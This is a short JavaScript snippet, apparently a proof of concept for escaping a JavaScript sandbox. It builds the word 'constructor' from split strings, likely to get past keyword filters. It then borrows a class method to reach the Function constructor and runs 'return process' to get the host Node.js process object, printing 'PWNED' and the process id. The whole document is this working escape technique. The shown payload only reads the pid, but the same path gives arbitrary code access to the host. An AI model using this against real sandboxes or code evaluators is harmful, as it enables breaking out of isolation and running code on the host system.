const w = ['con', 'structor'].join('');
class C { go(f) { return f[w]; } }
new C().go({});
const fn = (x) => x;
const o = { go: C.prototype.go };
console.log('PWNED', o.go(fn)('return process')().pid);
